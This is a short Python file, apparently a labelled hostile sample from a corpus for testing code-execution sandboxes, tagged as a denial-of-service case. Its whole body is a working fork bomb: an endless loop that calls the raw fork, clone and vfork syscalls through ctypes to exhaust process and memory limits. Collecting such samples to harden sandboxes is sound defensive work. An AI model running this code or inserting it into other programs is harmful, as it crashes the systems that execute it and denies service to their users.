# kind: dos  passes: 0  status: fail|exception|timeout|memory|output|crash|missing_dependency  note: raw clone, vfork and fork calls without end
import ctypes

libc = ctypes.CDLL(None)

def f(x):
    while True:
        libc.syscall(57)
        libc.syscall(56, 17, 0, 0, 0, 0)
        libc.syscall(58)
